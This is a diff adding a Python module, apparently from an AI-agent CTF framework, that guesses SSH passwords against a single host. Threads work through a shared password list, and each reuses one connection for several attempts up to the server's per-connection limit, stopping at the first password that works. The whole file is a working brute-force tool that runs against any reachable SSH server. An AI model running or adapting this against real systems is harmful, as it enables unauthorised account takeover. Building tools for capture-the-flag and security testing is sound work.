@@ -0,0 +1,156 @@
+# -*- coding: utf-8 -*-
+"""
+Concurrent SSH password checks against a single host, for CTF arenas.
+
+A few workers share the candidate list. Each worker keeps one transport
+(TCP connection and key exchange) open and makes several password attempts
+on it, for as long as the server allows (OpenSSH: MaxAuthTries per
+connection), instead of reconnecting for every candidate. The first
+success stops all workers.
+"""
+
+import time
+import socket
+import asyncio
+import threading
+from dataclasses import dataclass, field
+from typing import Dict, List, Optional
+
+import paramiko
+
+from .ssh import _run_blocking
+
+MAX_WORKERS = 8
+
+# outcome of each candidate
+SUCCESS = "success"
+FAILED = "failed"
+NOT_TRIED = "not tried"
+
+
+@dataclass
+class PasswordCheckResult:
+    """Outcome of check_passwords(); outcomes maps each candidate to SUCCESS, FAILED, NOT_TRIED or an error."""
+    password: Optional[str]             # the password that worked, or None
+    outcomes: Dict[str, str] = field(default_factory=dict)
+    attempts: int = 0
+    connections: int = 0
+    duration: float = 0.0
+
+    @property
+    def attempts_per_second(self) -> float:
+        return self.attempts / self.duration if self.duration > 0 else 0.0
+
+
+class _Worker:
+    """One transport, reused for consecutive attempts until the server drops it."""
+
+    def __init__(self, host: str, port: int, timeout: float):
+        self.host = host
+        self.port = port
+        self.timeout = timeout
+        self.transport: Optional[paramiko.Transport] = None
+        self.connections = 0
+
+    def _connect(self) -> paramiko.Transport:
+        self.close()
+        sock = socket.create_connection((self.host, self.port), timeout=self.timeout)
+        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+        transport = paramiko.Transport(sock)
+        transport.start_client(timeout=self.timeout)
+        self.transport = transport
+        self.connections += 1
+        return transport
+
+    def attempt(self, username: str, password: str) -> bool:
+        """True if *password* authenticates; reconnects once if the server closed the transport."""
+        for retry in (False, True):
+            transport = self.transport
+            if transport is None or not transport.is_active():
+                transport = self._connect()
+            try:
+                transport.auth_password(username, password)
+                return True
+            except paramiko.AuthenticationException:
+                return False
+            except (paramiko.SSHException, EOFError, OSError):
+                # typically MaxAuthTries reached: the attempt didn't count
+                self.close()
+                if retry:
+                    raise
+        return False
+
+    def close(self) -> None:
+        if self.transport is not None:
+            self.transport.close()
+            self.transport = None
+
+
+def check_passwords(host: str,
+                    username: str,
+                    passwords: List[str],
+                    port: int = 22,
+                    workers: int = 4,
+                    timeout: float = 10,
+                    stop_event: Optional[threading.Event] = None) -> PasswordCheckResult:
+    """
+    Try *passwords* for *username* on *host* with up to *workers* concurrent
+    connections (at most MAX_WORKERS). Stops at the first success, or when
+    stop_event is set.
+    """
+    workers = max(1, min(workers, MAX_WORKERS, len(passwords) or 1))
+    stop = stop_event or threading.Event()
+    result = PasswordCheckResult(password=None, outcomes={p: NOT_TRIED for p in passwords})
+    pending = iter(list(dict.fromkeys(passwords)))
+    lock = threading.Lock()
+    start = time.monotonic()
+
+    def _run() -> None:
+        worker = _Worker(host, port, timeout)
+        try:
+            while not stop.is_set():
+                with lock:
+                    password = next(pending, None)
+                if password is None:
+                    return
+                try:
+                    ok = worker.attempt(username, password)
+                    outcome = SUCCESS if ok else FAILED
+                except Exception as e:
+                    ok, outcome = False, f"error: {e}"
+                with lock:
+                    result.attempts += 1
+                    result.outcomes[password] = outcome
+                    if ok and result.password is None:
+                        result.password = password
+                if ok:
+                    stop.set()
+        finally:
+            worker.close()
+            with lock:
+                result.connections += worker.connections
+
+    threads = [threading.Thread(target=_run, name=f"agentbeats-auth-{i}", daemon=True)
+               for i in range(workers)]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
+    result.duration = time.monotonic() - start
+    return result
+
+
+async def check_passwords_async(host: str,
+                                username: str,
+                                passwords: List[str],
+                                port: int = 22,
+                                workers: int = 4,
+                                timeout: float = 10) -> PasswordCheckResult:
+    """Awaitable check_passwords(); cancelling the await stops the workers."""
+    stop_event = threading.Event()
+    try:
+        return await _run_blocking(check_passwords, host, username, passwords, port,
+                                   workers, timeout, stop_event)
+    except asyncio.CancelledError:
+        stop_event.set()
+        raise